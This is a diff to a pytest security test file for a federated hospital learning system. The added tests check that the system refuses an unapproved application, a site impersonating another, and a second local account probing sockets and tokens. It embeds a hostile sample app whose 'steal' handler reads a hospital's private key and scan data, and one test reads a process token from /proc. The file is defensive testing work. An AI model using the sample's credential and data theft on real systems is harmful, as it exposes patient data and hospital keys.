@@ -1,5 +1,6 @@
 """Who must not take part does not: no registered key, another authority, an expired or revoked certificate, a
-clock that is off, a plan that was changed after the hospital had agreed."""
+clock that is off, a plan that was changed after the hospital had agreed, code that no hospital installed, a
+hospital that answers as another, another account of the machine."""
 
 import dataclasses
 import json
@@ -18,6 +19,7 @@ import pytest
 import yaml
 
 from client.connection.keys import install
+from federation.journal import read_journal
 from federation.keys.certificates import certificate_pem, key_pem, new_key, utc_now
 from federation.keys.kits import (
     AUTHORITY,
@@ -29,14 +31,14 @@ from federation.keys.kits import (
     Connection,
     pack_kit,
 )
-from federation.processes import die_with_parent
+from federation.processes import die_with_parent, read_state
 from federation.published_plan import PublishedPlan
 from server.consortium.plans import publish
 from server.consortium.provisioning import ConsortiumSettings, Office, SiteEntry, open_office, provision
 from server.deployment.app_folder import ROOT
 from server.deployment.control import Control
 from server.deployment.status import read_status
-from simulations.poc import Poc, reserve_ports
+from simulations.poc import Poc
 from tests.faults.consortium import (
     SABOTEUR,
     Consortium,
@@ -48,6 +50,7 @@ from tests.faults.consortium import (
     undisturbed,
 )
 from tests.faults.page import Book
+from tests.local_account import attack, family, listening
 
 pytestmark = pytest.mark.faults
 
@@ -99,7 +102,6 @@ def settled(up: Consortium, name: str, home: Path) -> Path:
         "name": name,
         "state_dir": str(home / "state"),
         "keys_dir": str(home / "keys"),
-        "port": reserve_ports(1)[0],
     }
     (home / SETTINGS).write_text(yaml.safe_dump(yaml.safe_load(first.read_text()) | own, sort_keys=False))
     return home / SETTINGS
@@ -236,9 +238,152 @@ def test_a_plan_that_was_changed_after_approval(up: Consortium, book: Book) -> N
     )
 
 
-def test_the_plan_that_was_approved_runs(up: Consortium) -> None:
+FOREIGN_SETTINGS = """\
+[project]
+name = "fedmeduet"
+version = "0.1.0"
+description = "one of two files"
+license = "Apache-2.0"
+dependencies = []
+[tool.flwr.app]
+publisher = "fedmeduet"
+[tool.flwr.app.components]
+serverapp = "evil:server"
+clientapp = "evil:client"
+[tool.flwr.app.config]
+loot = ""
+"""
+FOREIGN_CODE = """\
+import json, pathlib, time
+import yaml
+from flwr.app import ConfigRecord, Message, RecordDict
+from flwr.clientapp import ClientApp
+from flwr.serverapp import ServerApp
+
+client = ClientApp()
+server = ServerApp()
+
+@client.query("survey")
+def steal(message, context):
+    path = pathlib.Path(context.node_config["site-config"])
+    site = yaml.safe_load(path.read_text())
+    key = (path.parent / site["keys_dir"] / "site.key").read_bytes()
+    root = pathlib.Path(site["data_root"])
+    root = root if root.is_dir() else root.parent
+    scan = next(one for one in sorted(root.rglob("*.nii.gz"))).read_bytes()
+    loot = ConfigRecord({"kind": "loot", "key": key, "scan": scan[:100]})
+    pathlib.Path(context.run_config["loot"], site["name"]).write_bytes(key)
+    return Message(RecordDict({"head": loot}), reply_to=message)
+
+@server.main()
+def main(grid, context):
+    while len(nodes := list(grid.get_node_ids())) < 2:
+        time.sleep(1)
+    asked = [Message(RecordDict(), node, "query.survey", ttl=150.0) for node in nodes]
+    told = []
+    for reply in grid.send_and_receive(asked, timeout=150.0):
+        head = None if reply.has_error() else reply.content["head"]
+        told.append(["error"] if head is None else [head["kind"], str(head.get("reason", ""))])
+    pathlib.Path(context.run_config["loot"], "told.json").write_text(json.dumps(told))
+"""
+
+
+def test_code_that_no_hospital_installed(up: Consortium, tmp_path: Path, book: Book) -> None:
+    app, loot = tmp_path / "foreign", tmp_path / "loot"
+    app.mkdir()
+    loot.mkdir()
+    (app / "pyproject.toml").write_text(FOREIGN_SETTINGS)
+    (app / "evil.py").write_text(FOREIGN_CODE)
+    books = {path: path.read_bytes() for path in state_files(up, "ledger.jsonl")}
+    run = Control(up.poc.config).start(app, {"loot": str(loot)})
+    up.until((loot / "told.json").is_file, "the foreign application's end")
+    told = json.loads((loot / "told.json").read_text())
+    assert told == [["refusal", "bundle_not_approved"]] * 2
+    assert [path.name for path in loot.iterdir()] == ["told.json"]
+    for site, path in up.poc.site_yamls.items():
+        lines = [entry.record for entry in read_journal(up.config(site).state_dir / "journal.jsonl")]
+        refused = [line for line in lines if line["kind"] == "refusal" and line["run"] == run]
+        assert [line["reason"] for line in refused] == ["bundle_not_approved"]
+        shown = site_command("journal", "show", config=path).stdout
+        assert "bundle_not_approved" in shown
+        assert not list((up.config(site).state_dir / "processes").rglob("evil.py"))
+    assert {path: path.read_bytes() for path in state_files(up, "ledger.jsonl")} == books
+    book.note(
+        "an application of two files that opens the site's key and a scan is submitted to SuperLink",
+        "refused where it arrives, in installed code: `bundle_not_approved`, a line in each site's journal; "
+        "nothing is unpacked",
+        "nothing",
+    )
+
+
+def state_files(up: Consortium, name: str) -> list[Path]:
+    """This file of each hospital's state, where it is there."""
+    found = [up.config(site).state_dir / name for site in up.poc.site_yamls]
+    return [path for path in found if path.is_file()]
+
+
+def test_a_hospital_that_answers_as_another(up: Consortium, book: Book) -> None:
+    """It is registered, its certificate is valid, and it is in the plan; the other one is not there."""
+    published = PublishedPlan.from_json(up.poc.plan_path.read_text()).plan
+    paths = {name: member(up, name) for name in ("absent", "liar")}
+    settings = dataclasses.replace(published.aggregation, quorum=0.5, deadline_s=90.0)
+    plan = dataclasses.replace(published, sites=tuple(paths), aggregation=settings)
+    (up.poc.folder / "two.json").write_text(plan.to_json())
+    path, _ = publish(up.poc.folder / "two.json", up.poc.folder / "plans")
+    config = paths["liar"]
+    config.write_text(yaml.safe_dump(yaml.safe_load(config.read_text()) | {"plan_approval": "implied"}))
+    sabotage = up.poc.folder / "sabotage" / "liar"
+    sabotage.mkdir(parents=True)
+    (sabotage / "name").write_text("absent")
+    spoilt = {"PYTHONPATH": os.pathsep.join([str(SABOTEUR), str(ROOT)]), "MEDUET_SABOTAGE": str(sabotage)}
+    folder = up.poc.folder / "named"
+    with beside(config, spoilt), running(up, path, folder):
+        up.until(lambda: online(up, "liar"), "the site to be let in")
+        up.until(
+            lambda: (read_status(folder) or {}).get("state") in ("failed", "refused", "complete"),
+            "the run to end",
+        )
+        status = read_status(folder) or {}
+    assert status["state"] == "failed", status
+    assert "Expected a reply of 'liar', as this node is registered; it says 'absent'" in status["reason"]
+    assert not [entry for entry in read_journal(folder / "journal.jsonl") if "site" in entry.record]
+    book.note(
+        "a hospital answers as another one",
+        "put aside: its node is registered with its key, and that is who it is",
+        "that site's share",
+    )
+
+
+def test_another_account_of_the_machine(up: Consortium, book: Book) -> None:
+    """The plan that was approved runs; while a hospital is at work, another account tries what it can."""
+    site, config = next(iter(up.poc.site_yamls)), up.poc.config
+    up.script(site, {1: {"do": "hold", "at_step": 1}})
     with running(up, up.poc.plan_path, up.poc.run_folder) as folder:
+        up.until(lambda: up.held(site) is not None, "a hospital at work")
+        before = Control(config).runs()
+        held = up.held(site)
+        assert held is not None
+        asked = Path(f"/proc/{held[1]}/fd")
+        (token,) = [one.read_text() for one in asked.iterdir() if "memfd:token" in str(one.readlink())]
+        centre = attack("control", f"127.0.0.1:{config.port}", str(config.state_dir / "superlink.sock"))
+        state = up.config(site).state_dir / "processes"
+        hospital = attack("runtime", f"127.0.0.1:{config.port}", str(state / "supernode.sock"), token)
+        assert {words for way, words in centre.items() if "port" in way} == {"status 403"}
+        assert all("Permission denied" in words for way, words in centre.items() if "socket" in way)
+        assert token not in hospital["tokens seen"].split()
+        assert "Permission denied" in hospital["question by socket"]
+        assert Control(config).runs() == before
+        supervisor = read_state(state)
+        assert supervisor is not None and listening(family(supervisor["pid"])) == set()
+        up.let_go(site)
         up.until(lambda: (read_status(folder) or {}).get("state") == "complete", "the end")
+    book.note(
+        "another account of the machine submits, lists and stops runs, and takes a hospital's question with "
+        "its token",
+        "the centre's port answers 403, sockets are refused by the kernel, no token is in the process list, "
+        "a hospital listens on no port; the run goes on",
+        "nothing",
+    )
 
 
 @contextmanager
